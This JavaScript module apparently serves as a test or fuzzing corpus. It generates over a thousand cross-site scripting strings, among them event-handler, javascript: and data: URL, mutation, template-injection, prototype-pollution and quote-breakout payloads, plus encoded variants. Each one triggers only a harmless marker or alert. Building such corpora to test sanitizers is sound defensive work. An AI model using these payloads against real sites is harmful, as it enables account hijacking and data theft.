// Texts that run something wherever they are taken for anything but text: more than a thousand,
// from the ways in which markup, attributes, styles, addresses, templates and queries are broken
// out of. Whatever of them runs sets window.__pwned or opens a dialog.

const RUNS = ['window.__pwned=1', 'alert(1)'];

const EVENTS = ['onerror', 'onload', 'onfocus', 'onclick', 'onmouseover', 'onpointerenter', 'onanimationstart', 'ontoggle', 'onbegin', 'onpageshow', 'onhashchange', 'onbeforetoggle', 'onscrollend'];

const ELEMENTS = [
  (event, run) => `<img src=x ${event}=${run}>`,
  (event, run) => `<svg ${event}=${run}>`,
  (event, run) => `<body ${event}=${run}>`,
  (event, run) => `<input autofocus ${event}="${run}">`,
  (event, run) => `<details open ${event}='${run}'>`,
  (event, run) => `<video src=x ${event}=${run}><source ${event}=${run}></video>`,
  (event, run) => `<iframe src=about:blank ${event}=${run}></iframe>`,
  (event, run) => `<svg><animate ${event}=${run} attributeName=x dur=1s>`,
  (event, run) => `<style>@keyframes x{}</style><b style="animation-name:x" ${event}="${run}"></b>`,
  (event, run) => `<math><mi ${event}=${run}>`,
  (event, run) => `<IMG/SRC=x/${event.toUpperCase()}=${run}/`,
  (event, run) => `<x tabindex=1 ${event}=${run} id=x>#x`,
];

const WHOLE = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt>${run}</sCrIpT>`,
  (run) => `<script src="data:text/javascript,${run}"></script>`,
  (run) => `<script type=module>${run}</script>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script href="data:,${run}"/>`,
  (run) => `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  (run) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x">`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<a href="java\tscript:${run}">x</a>`,
  (run) => `<a href="&#106;avascript:${run}">x</a>`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<object data="data:text/html,<script>${run}</script>"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<form action="javascript:${run}"><button>x</button></form>`,
  (run) => `<button formaction="javascript:${run}">x</button>`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<base href="javascript:${run}//">`,
  (run) => `<link rel=stylesheet href="data:text/css,*{}" onload="${run}">`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<![CDATA[><img src=x onerror=${run}>]]>`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  (run) => `<div style="background:url(javascript:${run})">`,
  (run) => `<div style="width:expression(${run})">`,
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}//`,
  (run) => `\u0001javascript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')}`,
  (run) => `vbscript:${run}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `#{${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `%{${run}}`,
  (run) => `');${run};//`,
  (run) => `";${run};//`,
  (run) => '`;' + run + ';//',
  (run) => `\\";${run};//`,
  (run) => `\u2028${run}\u2029`,
  (run) => `*/${run}/*`,
  (run) => `__proto__[onerror]=${run}`,
  (run) => `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`,
  (run) => `" + (${run}) + "`,
  (run) => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${run} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${run}//>\\x3e`,
];

const BREAKOUTS = ['', '">', '\'>', '</title>', '</script>', '</style>', '</textarea>', '-->', ']]>', '"}', '\'})', '\u202e', '\ufeff', '&lt;', '%3C', '\r\n\r\n'];

/** All of them, each once, always in the same order. */
export const CORPUS = [...new Set([
  ...EVENTS.flatMap((event) => ELEMENTS.flatMap((element) => RUNS.map((run) => element(event, run)))),
  ...BREAKOUTS.flatMap((breakout) => WHOLE.flatMap((whole) => RUNS.map((run) => breakout + whole(run)))),
  // The same as they come out of a careless decoder.
  ...WHOLE.map((whole) => encodeURIComponent(whole(RUNS[0]))),
  ...WHOLE.map((whole) => whole(RUNS[0]).replaceAll('<', '\\u003c').replaceAll('>', '\\x3e')),
  ...WHOLE.map((whole) => whole(RUNS[0]).replaceAll('<', '&#60;').replaceAll('"', '&quot;')),
  ...WHOLE.map((whole) => whole(RUNS[0]).replaceAll('<', '\uff1c').replaceAll('>', '\uff1e')),
])];
